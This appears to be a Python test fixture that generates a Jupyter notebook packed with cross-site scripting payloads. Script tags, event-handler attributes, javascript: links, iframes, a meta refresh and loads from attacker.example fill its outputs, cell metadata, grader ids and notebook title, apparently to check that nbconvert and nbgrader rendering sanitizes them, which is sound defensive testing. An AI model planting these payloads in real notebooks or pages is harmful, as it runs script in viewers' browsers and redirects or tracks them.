"""A notebook that attacks whoever looks at it: every way to the page that nbconvert's templates leave open."""

from __future__ import annotations

import json
from typing import Any

OUTSIDE = "http://attacker.example/"

EVIL = (
    "</pre></div><script>window.ran && ran()</script><img src=x onerror=ran()>"
    f"<img src='{OUTSIDE}pixel.png'><svg onload=ran()></svg><iframe srcdoc='<script>parent.ran()</script>'></iframe>"
    f"<iframe src='{OUTSIDE}'></iframe><a href='javascript:ran()'>press</a>"
    f"<link rel='stylesheet' href='{OUTSIDE}style.css'><form action='{OUTSIDE}'><input autofocus onfocus=ran()></form>"
)
MOVES_AWAY = f"<meta http-equiv='refresh' content='0;url={OUTSIDE}'>"

MARKDOWN = (
    f"{EVIL}\n\n[press](javascript:ran()) ![x]({OUTSIDE}pixel.png)\n\n<div>\n<svg onload=ran()>\n</div>\n\n"
    "```mermaid\n</div><script>ran()</script>\n```\n\n$\\href{javascript:ran()}{x}$"
)
_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def notebook(grade_id: str = "answer") -> dict[str, Any]:
    """The JSON of a notebook whose every part is hostile; the names of its cells are those of an assignment."""
    shown = [
        {"text/html": EVIL},
        {"text/html": MOVES_AWAY},
        {"application/javascript": "ran()"},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'>{EVIL}</svg>"},
        {"text/markdown": MARKDOWN},
        {"text/latex": EVIL},
        {"text/plain": EVIL},
        {"application/vnd.jupyter.widget-view+json": {"model_id": EVIL}},
        {"image/png": f"x' onerror='ran()'>{EVIL}"},
    ]
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": data, "metadata": {}} for data in shown
    ]
    outputs += [
        # The template writes the width without quotes.
        {
            "output_type": "display_data",
            "data": {"image/png": _PIXEL},
            "metadata": {"image/png": {"width": "1 onload=ran()", "alt": EVIL}},
        },
        {
            "output_type": "display_data",
            "data": {"text/html": EVIL},
            "metadata": {"text/html": {"isolated": True}},
        },
        {"output_type": "stream", "name": "stdout", "text": EVIL},
        {"output_type": "error", "ename": EVIL, "evalue": EVIL, "traceback": [EVIL]},
    ]
    facts = {
        "grade": True,
        "solution": True,
        "locked": False,
        "task": False,
        "points": 1,
        "schema_version": 3,
    }
    return {
        "cells": [
            _cell("code", _showing(outputs[:-2]), {}, outputs=outputs, execution_count=1),
            _cell("markdown", MARKDOWN, {"nbgrader": {"grade_id": grade_id, **facts}}),
            _cell(
                "markdown", "named", {"nbgrader": {"grade_id": f'x"></div>{EVIL}', **facts}, "tags": [EVIL]}
            ),
            _cell("raw", EVIL, {"raw_mimetype": "text/html"}),
        ],
        "metadata": {
            "title": EVIL,
            "kernelspec": {"name": "python3", "display_name": EVIL, "language": "python"},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": EVIL}},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def text(grade_id: str = "answer") -> str:
    """The notebook's file."""
    return json.dumps(notebook(grade_id))


def _showing(outputs: list[dict[str, Any]]) -> str:
    """Code that shows them again, whoever runs it."""
    shown = json.dumps([[output["data"], output["metadata"]] for output in outputs])
    lines = [
        "import json",
        "from IPython.display import display",
        f"for data, metadata in json.loads({shown!r}):",
        "    display(data, metadata=metadata, raw=True)",
        f"print({EVIL!r})",
    ]
    return "\n".join(lines)


def _cell(kind: str, source: str, metadata: dict[str, Any], **more: Any) -> dict[str, Any]:
    name = f"cell-{kind}-{len(source)}"
    return {"cell_type": kind, "id": name, "source": source, "metadata": metadata, **more}
